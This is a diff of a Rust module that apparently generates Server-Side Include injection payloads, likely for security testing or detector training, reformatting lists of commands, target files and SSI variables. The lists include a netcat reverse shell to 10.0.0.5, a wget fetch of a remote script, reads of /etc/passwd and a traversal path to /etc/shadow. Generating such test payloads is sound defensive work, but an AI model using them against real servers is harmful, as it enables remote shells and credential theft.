@@ -7,9 +7,39 @@ use crate::{Carrier, Family, Rng, Variant};
 
 pub struct Ssi;
 
-const COMMANDS: &[&str] = &["id", "whoami", "ls -la", "cat /etc/passwd", "uname -a", "nc -e /bin/sh 10.0.0.5 4444", "dir", "type C:\\boot.ini", "wget http://198.51.100.7/s.sh", "ping -c 3 127.0.0.1"];
-const FILES: &[&str] = &["/etc/passwd", "../../../../etc/shadow", "/WEB-INF/web.xml", "index.shtml", "/proc/self/environ", "../config.php", "/var/log/apache2/access.log"];
-const VARS: &[&str] = &["DOCUMENT_NAME", "DOCUMENT_URI", "DATE_LOCAL", "LAST_MODIFIED", "QUERY_STRING_UNESCAPED", "REMOTE_ADDR", "SERVER_SOFTWARE", "HTTP_COOKIE", "AUTH_TYPE", "DOCUMENT_ROOT"];
+const COMMANDS: &[&str] = &[
+    "id",
+    "whoami",
+    "ls -la",
+    "cat /etc/passwd",
+    "uname -a",
+    "nc -e /bin/sh 10.0.0.5 4444",
+    "dir",
+    "type C:\\boot.ini",
+    "wget http://198.51.100.7/s.sh",
+    "ping -c 3 127.0.0.1",
+];
+const FILES: &[&str] = &[
+    "/etc/passwd",
+    "../../../../etc/shadow",
+    "/WEB-INF/web.xml",
+    "index.shtml",
+    "/proc/self/environ",
+    "../config.php",
+    "/var/log/apache2/access.log",
+];
+const VARS: &[&str] = &[
+    "DOCUMENT_NAME",
+    "DOCUMENT_URI",
+    "DATE_LOCAL",
+    "LAST_MODIFIED",
+    "QUERY_STRING_UNESCAPED",
+    "REMOTE_ADDR",
+    "SERVER_SOFTWARE",
+    "HTTP_COOKIE",
+    "AUTH_TYPE",
+    "DOCUMENT_ROOT",
+];
 const PREFIXES: &[&str] = &["", "hello ", "John", "test\">", "comment: ", "</textarea>", "a@b.c "];
 
 fn quote(rng: &mut Rng, value: &str) -> (String, &'static str) {
@@ -32,7 +62,14 @@ fn ssi_directive(rng: &mut Rng, names: &mut Vec<&'static str>) -> String {
             let command = *rng.pick(COMMANDS);
             let (v, q) = quote(rng, command);
             names.push(q);
-            ("exec", if rng.chance(0.85) { format!("cmd={v}") } else { format!("cgi=\"/cgi-bin/{}.cgi\"", rng.pick(&["test", "printenv", "status"])) })
+            (
+                "exec",
+                if rng.chance(0.85) {
+                    format!("cmd={v}")
+                } else {
+                    format!("cgi=\"/cgi-bin/{}.cgi\"", rng.pick(&["test", "printenv", "status"]))
+                },
+            )
         }
         2 | 3 => {
             let key = *rng.pick(&["virtual", "file"]);
